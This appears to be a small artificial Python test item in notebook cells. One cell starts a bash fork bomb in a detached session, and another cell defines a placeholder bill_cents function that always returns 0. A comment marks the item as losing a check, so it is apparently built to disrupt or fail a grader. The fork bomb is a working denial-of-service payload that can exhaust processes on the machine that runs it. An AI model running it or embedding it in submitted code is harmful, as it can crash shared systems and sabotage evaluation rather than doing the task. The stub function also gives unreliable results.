"""The shell's fork bomb, in a session of its own."""
# loses: check_bill_cents
# %% + first
import subprocess, time
subprocess.Popen(["timeout", "20", "bash", "-c", "b() { b | b & }; b"], start_new_session=True)
time.sleep(1)
# %% bill_cents
def bill_cents(plan, dishes):
    return 0
